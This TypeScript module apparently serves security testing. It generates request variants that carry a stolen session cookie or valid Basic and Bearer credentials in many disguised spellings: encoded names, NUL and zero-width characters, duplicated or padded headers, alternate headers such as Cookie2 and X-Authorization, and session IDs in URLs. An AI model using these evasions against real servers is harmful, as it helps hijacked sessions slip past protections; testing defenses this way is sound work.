import type { FieldChange, Fields } from './fields.ts'

/** A session of the site as somebody stole it: what the site itself would call it. */
export type StolenCookie = { name: string; value: string }

const hex = (text: string) => [...text].map((one) => `%${one.charCodeAt(0).toString(16).padStart(2, '0')}`).join('')
const octal = (text: string) => [...text].map((one) => `\\${one.charCodeAt(0).toString(8).padStart(3, '0')}`).join('')

/** Other names that PHP, an old server or a careless parser takes for a cookie's own. */
function names(name: string): Record<string, string> {
  const half = Math.floor(name.length / 2)
  return {
    plain: name,
    dots: name.replaceAll('_', '.'),
    space: name.replaceAll('_', ' '),
    bracket: name.replaceAll('_', '['),
    'bracket closed': `${name.replace('_', '[')}]`,
    'leading space': `  ${name}`,
    'leading tab': `\t${name}`,
    'trailing space': `${name} `,
    'trailing tab': `${name}\t`,
    capitals: name.toUpperCase(),
    'one capital': name.replace(/[a-z]/, (one) => one.toUpperCase()),
    'percent, first': hex(name[0] ?? '') + name.slice(1),
    'percent, all': hex(name),
    'percent, middle': name.slice(0, half) + hex(name[half] ?? '') + name.slice(half + 1),
    'percent twice': `%25${hex(name[0] ?? '').slice(1)}${name.slice(1)}`,
    'plus for space': `+${name}`,
    quoted: `"${name}"`,
    array: `${name}[]`,
    'array index': `${name}[0]`,
    'array name': `${name}[${name}]`,
    'NUL after': `${name}\x00`,
    'NUL before': `\x00${name}`,
    'vertical tab': `\x0b${name}`,
    'non-breaking space': `\xa0${name}`,
    'UTF-8 mark': `\xef\xbb\xbf${name}`,
    'zero width': `${name}\xe2\x80\x8b`,
    '__Host-': `__Host-${name}`,
    '__Secure-': `__Secure-${name}`,
    '__Host-g.': `__Host-g.${name}`,
    'g.': `g.${name}`,
    dollar: `$${name}`,
    'slash path': `${name}/`,
  }
}

function values(value: string): Record<string, string> {
  return {
    plain: value,
    quoted: `"${value}"`,
    'single quoted': `'${value}'`,
    'quote open': `"${value}`,
    octal: `"${octal(value)}"`,
    'octal, first': `"${octal(value[0] ?? '')}${value.slice(1)}"`,
    backslashed: `"\\${value}"`,
    'percent, first': hex(value[0] ?? '') + value.slice(1),
    'percent, all': hex(value),
    'leading space': ` ${value}`,
    'trailing space': `${value} `,
    'trailing tab': `${value}\t`,
    'trailing semicolons': `${value};;;`,
    'more after comma': `${value},x=1`,
    'more after space': `${value} x=1`,
    'with $Path': `${value}; $Path=/; $Domain=x`,
    attributes: `${value}; Path=/; HttpOnly`,
    'signed as in Express': `s%3A${value}.c2lnbmVk`,
    'second equals': `=${value}`,
  }
}

/** `before` is what the browser's own cookies are (a pending jar, for instance), or nothing. */
export function cookieChanges(stolen: StolenCookie, before: string): FieldChange[] {
  const { name, value } = stolen
  const pair = `${name}=${value}`
  const join = (...parts: string[]) => parts.filter((part) => part !== '').join('; ')
  const one = (what: string, ...fields: Fields): FieldChange => ({ name: `cookie ${what}`, fields })
  const spelt = Object.entries(names(name)).map(([what, other]) =>
    one(`name ${what}`, ['Cookie', join(before, `${other}=${value}`)]),
  )
  const told = Object.entries(values(value)).map(([what, other]) =>
    one(`value ${what}`, ['Cookie', join(before, `${name}=${other}`)]),
  )
  return [
    ...spelt,
    ...told,
    one('first', ['Cookie', join(pair, before)]),
    one('twice, nonsense first', ['Cookie', join(before, `${name}=x`, pair)]),
    one('twice, nonsense last', ['Cookie', join(before, pair, `${name}=x`)]),
    one('a hundred times', ['Cookie', join(before, ...Array.from({ length: 100 }, () => pair))]),
    one('behind a hundred others', ['Cookie', join(before, ...Array.from({ length: 100 }, (_, n) => `c${n}=x`), pair)]),
    one('behind 7 KB', ['Cookie', join(before, `big=${'x'.repeat(7000)}`, pair)]),
    one('two header fields', ['Cookie', before === '' ? 'a=b' : before], ['Cookie', pair]),
    one('two header fields, other way', ['Cookie', pair], ['Cookie', before === '' ? 'a=b' : before]),
    one('small letters', ['cookie', join(before, pair)]),
    one('capitals', ['COOKIE', join(before, pair)]),
    one('no space', ['Cookie', join(before, `a=b;${pair};c=d`)]),
    one('commas', ['Cookie', join(before, `a=b,${pair},c=d`)]),
    one('tabs', ['Cookie', join(before, `a=b;\t${pair}`)]),
    one('inside quotes', ['Cookie', join(before, `a="b; ${pair}; c=d"`)]),
    one('after a broken pair', ['Cookie', join(before, `=; ;; ; a; =b; ${pair}`)]),
    one('$Version', ['Cookie', join('$Version=1', before, `${name}="${value}"; $Path="/"`)]),
    one('Cookie2', ['Cookie', before === '' ? 'a=b' : before], ['Cookie2', pair]),
    one('Set-Cookie', ['Set-Cookie', pair]),
    one('X-Cookie', ['X-Cookie', pair]),
    one('named in Connection', ['Connection', 'Cookie'], ['Cookie', join(before, pair)]),
  ]
}

/** The session in the URL, as old Java and PHP sites take it. */
export const urlSessions = ({ name, value }: StolenCookie): Record<string, (path: string) => string> => ({
  parameter: (path) => `${path};${name}=${value}`,
  'parameter, capitals': (path) => `${path};${name.toUpperCase()}=${value}`,
  query: (path) => `${path}?${name}=${value}`,
  'query, encoded': (path) => `${path}?${hex(name)}=${value}`,
  'query, array': (path) => `${path}?${name}[]=${value}`,
})

/** Basic and bearer credentials that are right, in whatever writing some server takes. */
export function authorizationChanges(stolen: { user: string; password: string; bearer: string }): FieldChange[] {
  const basic = Buffer.from(`${stolen.user}:${stolen.password}`).toString('base64')
  const fields = (scheme: string, text: string): [string, Fields][] => [
    ['plain', [['Authorization', `${scheme} ${text}`]]],
    ['small letters', [['authorization', `${scheme.toLowerCase()} ${text}`]]],
    ['capitals', [['AUTHORIZATION', `${scheme.toUpperCase()} ${text}`]]],
    ['tab', [['Authorization', `${scheme}\t${text}`]]],
    ['spaces', [['Authorization', `   ${scheme}    ${text}  `]]],
    [
      'twice',
      [
        ['Authorization', `${scheme} ${text}`],
        ['Authorization', `${scheme} eDp4`],
      ],
    ],
    [
      'twice, nonsense first',
      [
        ['Authorization', `${scheme} eDp4`],
        ['Authorization', `${scheme} ${text}`],
      ],
    ],
    ['list', [['Authorization', `Digest x, ${scheme} ${text}`]]],
    ['proxy', [['Proxy-Authorization', `${scheme} ${text}`]]],
    ['X-', [['X-Authorization', `${scheme} ${text}`]]],
    ['underscore', [['X_Authorization', `${scheme} ${text}`]]],
    [
      'named in Connection',
      [
        ['Connection', 'Authorization'],
        ['Authorization', `${scheme} ${text}`],
      ],
    ],
    ['quoted', [['Authorization', `${scheme} "${text}"`]]],
  ]
  const all = (scheme: string, text: string): FieldChange[] =>
    fields(scheme, text).map(([what, list]) => ({ name: `authorization ${scheme} ${what}`, fields: list }))
  return [...all('Basic', basic), ...all('Bearer', stolen.bearer), ...all('Token', stolen.bearer).slice(0, 2)]
}
